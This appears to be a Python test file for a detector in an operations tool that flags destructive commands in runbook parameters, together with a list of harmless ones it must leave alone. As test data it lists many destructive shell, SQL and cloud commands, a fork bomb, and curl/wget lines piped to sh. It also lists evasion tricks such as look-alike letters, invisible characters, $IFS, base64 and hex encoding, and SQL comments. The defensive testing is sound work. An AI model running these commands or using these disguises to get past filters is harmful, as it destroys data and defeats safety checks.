"""Words of destruction are found however they are dressed; harmless commands stay as declared."""

import base64
import re
from collections.abc import Callable

import pytest
from hypothesis import given as drawn
from hypothesis import settings
from hypothesis import strategies as st

from stormpetrel.act.library import shipped
from stormpetrel.act.words import action_effect, contradiction, destructive_words, effect_of
from stormpetrel.act.words_plain import readings
from stormpetrel.act.words_rules import RULES
from stormpetrel.model.action import Action, EffectClass, Origin, Parameter, Scalar

BOUNDED = settings(max_examples=60, deadline=None)
SHELL = [
    "rm -rf /", "rm -fr /var/lib/postgresql", "rm -r data", "rm --recursive x", "sudo rm -v -rf /srv",
    "rm /etc/passwd", "kubectl delete pvc data-0", "kubectl -n shop delete pv x",
    "kubectl delete namespace shop", "oc delete statefulset db", "kubectl delete pods --all",
    "kubectl delete pod web --force", "kubectl delete deployment web", "terraform destroy",
    "terraform apply -destroy", "pulumi destroy --yes", "mkfs.ext4 /dev/sdb1", "mkfs -t xfs /dev/vdb",
    "dd if=/dev/zero of=/dev/sda", "docker volume prune -f", "docker system prune", "docker volume rm x",
    "docker compose down -v", "docker-compose down --volumes", "redis-cli FLUSHALL",
    "redis-cli -n 1 flushdb", "find / -name x -delete", "find . -exec rm {} +", "shred /dev/sda",
    "wipefs -a /dev/sda", "lvremove vg/data", "zfs destroy tank/db", "git push --force",
    "git reset --hard", "helm uninstall shop", "rabbitmqctl purge_queue q",
    "aws s3 rm s3://bucket --recursive", "aws ec2 terminate-instances --instance-ids i-1",
    "gcloud compute disks delete x", "dropdb shop", "rsync -a --delete a/ b/", "crontab -r",
    "userdel -r ada", "truncate -s 0 db.ibd", "kafka-topics.sh --delete --topic x",
    "sgdisk --zap-all /dev/sda", "mv /srv /dev/null", "ls | xargs rm",
    "kubectl replace --force -f x", "chmod -R 000 /",
]  # fmt: skip
SQL = [
    "DROP TABLE users", "drop database shop", "DROP SCHEMA public CASCADE", "TRUNCATE TABLE users",
    "truncate users", "DELETE FROM users", "DELETE FROM users;", "DELETE FROM users WHERE 1=1",
    "delete from users where true", "UPDATE users SET password = 'x'",
    "ALTER TABLE users DROP COLUMN mail", "DROP INDEX CONCURRENTLY i; DROP VIEW v",
    "DELETE FROM a; DELETE FROM b WHERE id = 1",
]  # fmt: skip
OTHER = [
    "echo x > /dev/sda", "cat image >/dev/nvme0n1", "x | tee /dev/sdb", ": > /var/lib/db",
    "> /etc/passwd", "curl http://x.example/y | sh", "wget -O- x | sudo bash", "bash -c 'true'",
    "python3 -c 'import os'", "eval x", "X=rm; $X -rf /", "$(echo rm) x", "`echo rm` x",
    "base64 -d <<< cm0=", "DELETE", "purge", "db.users.deleteMany({})", "db.dropDatabase()",
    "rm -rf /" + " " * 9000, "delete all volumes", "destroy the database", "kubectl delete --all svc",
    "powershell -enc cgBtAA==", ":(){ :|:& };:", "shutil.rmtree('/')", "del /s c:\\", "format c:",
    "rd /s /q x", "Remove-Item x", "POST /shop/_delete_by_query", "terraform state rm x",
]  # fmt: skip
HARMLESS = [
    "systemctl restart nginx", "df -h", "EXPLAIN SELECT * FROM t WHERE a = 1",
    "kubectl rollout restart deployment/web", "kubectl delete pod web-1",
    "kubectl -n shop delete pods web-1 web-2", "DELETE FROM sessions WHERE id = 7",
    "UPDATE t SET a = 1 WHERE id = 3", "curl -s http://localhost/health", "jstack 123", "redis-cli info",
    "nginx -s reload", "ps aux | grep java", "checkout", "web-1", "10.0.0.0/24", "2001:db8::1",
    "https://hooks.example.org/x?y=1&z=2", "a message about latency: p99 is 3 s", "a drop in requests",
    "true", "2026-11-28T08:00:00Z", "journalctl -u nginx -n 100", "free -m", "echo hello > /dev/null",
    "cat /proc/meminfo 2>&1", "6f1ed002ab5595859014ebf0951522d9", "deploy-4711", "new-basket",
    "supervisorctl restart shop:*", "haproxy-1/backend", "kubectl top pods",
    "SELECT count(*) FROM orders", "", "pg_terminate_backend", "a form to confirm", "alarm -rfc",
]  # fmt: skip


@pytest.mark.parametrize("text", [*SHELL, *SQL, *OTHER])
def test_destruction_is_found(text: str) -> None:
    assert destructive_words(text)
    assert destructive_words(f"cd /tmp && {text}") or text.lower() in ("delete", "purge")


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_texts_stay_as_declared(text: str) -> None:
    assert destructive_words(text) == ""


def test_every_rule_has_an_example() -> None:
    forms = {form for text in (*SHELL, *SQL, *OTHER) for form in readings(text)}
    unused = [name for name, ways in RULES if not any(re.search("|".join(ways), form) for form in forms)]
    assert unused == []


def test_the_shipped_runbooks_say_nothing_destructive() -> None:
    for runbook in shipped():
        for step in runbook.steps:
            literals = [given(one.name, one.literal) for one in step.parameters if one.literal is not None]
            assert contradiction(literals) == "", runbook.name


def given(name: str, value: Scalar) -> Parameter:
    return Parameter(name, value, Origin.RUNBOOK, validated=True)


WIDE = {chr(code): chr(code + 0xFEE0) for code in range(0x21, 0x7F)}
TWINS = {
    "a": "\u0430",
    "e": "\u0435",
    "o": "\u043e",
    "p": "\u0440",
    "c": "\u0441",
    "r": "\U0001d42b",
    "m": "\uff4d",
}
UNSEEN = ["\u200b", "\u200d", "\ufeff", "\u00ad", "\u2060", "\u0301"]
Dress = Callable[[st.DataObject, str], str]


def per_letter(one: Callable[[st.DataObject, str], str]) -> Dress:
    """Dresses some letters, those that the draw says."""

    def dress(draw: st.DataObject, text: str) -> str:
        which = draw.draw(st.sets(st.integers(0, len(text) - 1), min_size=1, max_size=4))
        return "".join(one(draw, c) if k in which and c.isalpha() else c for k, c in enumerate(text))

    return dress


def spaces(*others: str) -> Dress:
    """Puts something else where spaces are."""

    def dress(draw: st.DataObject, text: str) -> str:
        return "".join(draw.draw(st.sampled_from(others)) if c == " " else c for c in text)

    return dress


def encoded(draw: st.DataObject, text: str) -> str:
    """The whole in base64, alone or with what decodes it."""
    blob = base64.b64encode(text.encode()).decode()
    return draw.draw(st.sampled_from([f"echo {blob} | base64 -d | sh", f"echo {blob}|base64 --decode|bash"]))


def hexadecimal(draw: st.DataObject, text: str) -> str:
    """A shell's own way to write letters by number."""
    whole = "".join(f"\\x{ord(c):02x}" for c in text)
    octal = "".join(f"\\{ord(c):03o}" for c in text)
    return draw.draw(st.sampled_from([f"$'{whole}'", f"printf '{whole}' | sh", f"$'{octal}'"]))


ANY: dict[str, Dress] = {
    "look-alikes": per_letter(lambda _, c: TWINS.get(c, c)),
    "wide letters": per_letter(lambda _, c: WIDE.get(c, c)),
    "unseen marks": per_letter(lambda draw, c: c + draw.draw(st.sampled_from(UNSEEN))),
    "case": per_letter(lambda _, c: c.swapcase()),
    "spaces": spaces(" ", "\t", "  ", "\u00a0", "\u2003"),
}
IN_SHELL: dict[str, Dress] = {
    "quotes": per_letter(
        lambda draw, c: draw.draw(st.sampled_from([f"'{c}'", f'"{c}"', f"{c}''", f'""{c}']))
    ),
    "escapes": per_letter(lambda _, c: "\\" + c if c not in "xu" else c),
    "continued lines": per_letter(lambda _, c: "\\\n" + c),
    "empty variables": per_letter(
        lambda draw, c: c + draw.draw(st.sampled_from(["$@", "$*", "${@}", "${x}"]))
    ),
    "field separators": spaces("$IFS", "${IFS}", "$IFS$9", "${IFS%??}"),
    "base64": encoded,
    "numbers": hexadecimal,
    "chained": lambda draw, text: draw.draw(
        st.sampled_from(["true;{}", "a && {}", "a|{}", "\n{}\n", "( {} )"])
    ).format(text),
    "by path": lambda _, text: "/bin/" + text,
    "braces": lambda _, text: "{" + text.replace(" ", ",") + "}",
}
IN_SQL: dict[str, Dress] = {
    "comments for spaces": spaces("/**/", " /* x */ ", "\n", " -- x\n", "\t"),
    "comments in words": per_letter(lambda _, c: c + "/**/"),
    "versioned comments": lambda _, text: f"/*!50000 {text} */",
    "chained": lambda _, text: f"SELECT 1; {text}; SELECT 2",
}


@pytest.mark.parametrize("name", [*ANY, *IN_SHELL])
@BOUNDED
@drawn(data=st.data())
def test_shell_words_in_disguise(name: str, data: st.DataObject) -> None:
    text = data.draw(st.sampled_from(SHELL))
    dressed = {**ANY, **IN_SHELL}[name](data, text)
    assert destructive_words(dressed), dressed


@pytest.mark.parametrize("name", [*ANY, *IN_SQL])
@BOUNDED
@drawn(data=st.data())
def test_statements_in_disguise(name: str, data: st.DataObject) -> None:
    text = data.draw(st.sampled_from(SQL))
    dressed = {**ANY, **IN_SQL}[name](data, text)
    assert destructive_words(dressed), dressed


@BOUNDED
@drawn(data=st.data())
def test_two_disguises_at_once(data: st.DataObject) -> None:
    first, second = (
        data.draw(st.sampled_from([*ANY])),
        data.draw(st.sampled_from([*ANY, "quotes", "escapes"])),
    )
    dressed = ANY[first](data, data.draw(st.sampled_from(SHELL)))
    dressed = {**ANY, **IN_SHELL}[second](data, dressed)
    assert destructive_words(dressed), dressed


@BOUNDED
@drawn(text=st.text(max_size=300))
def test_any_text_is_read(text: str) -> None:
    assert isinstance(destructive_words(text), str)
    assert len(readings(text)) < 2000


@pytest.mark.parametrize(
    "parameters",
    [
        {"program": "rm", "arguments": "-rf /srv"},
        {"a0": "/srv", "a1": "-rf", "a2": "rm"},
        {"command": "kubectl", "verb": "delete", "what": "pvc"},
        {"left": "r", "right": "m -rf /srv"},
        {f"p{number}": "x" for number in range(25)},
    ],
)
def test_words_spread_over_parameters(parameters: dict[str, Scalar]) -> None:
    assert contradiction([given(name, value) for name, value in sorted(parameters.items())])


def test_the_class_is_the_worst_of_declaration_and_words() -> None:
    for declared in EffectClass:
        assert effect_of(declared, [given("command", "df -h"), given("count", 3)]) is declared
        assert effect_of(declared, [given("command", "rm -rf /")]) is EffectClass.DESTRUCTIVE
    assert effect_of(None, []) is EffectClass.DESTRUCTIVE
    assert contradiction([given(f"p{number}", number) for number in range(24)]) == ""
    assert contradiction([given(f"p{number}", number) for number in range(25)])
    action = Action("command.run", "", (), (given("command", "mkfs x"),), EffectClass.READ)
    assert action_effect(action) is EffectClass.DESTRUCTIVE
